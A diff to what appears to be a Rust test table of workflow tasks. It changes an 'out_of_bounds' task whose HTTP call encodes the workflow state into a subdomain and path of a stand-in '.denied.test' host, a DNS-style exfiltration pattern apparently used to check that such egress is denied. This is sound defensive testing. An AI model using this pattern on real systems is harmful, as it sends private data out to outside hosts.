@@ -78,7 +78,7 @@ const TASKS: &[(&str, &str)] = &[
     ),
     (
         "out_of_bounds",
-        "call: http\nwith: {method: get, endpoint: '${ \"http://\" + (S | tostring | @base32) + \".denied.test/\" + (S | tostring | @uri) }'}",
+        "call: http\nwith: {method: get, endpoint: '${ \"http://\" + (S | tostring | @base64 | gsub(\"[+]\"; \"-\") | gsub(\"/\"; \"_\") | gsub(\"=\"; \"\")) + \".denied.test/\" + (S | tostring | @uri) }'}",
     ),
     (
         "openapi",
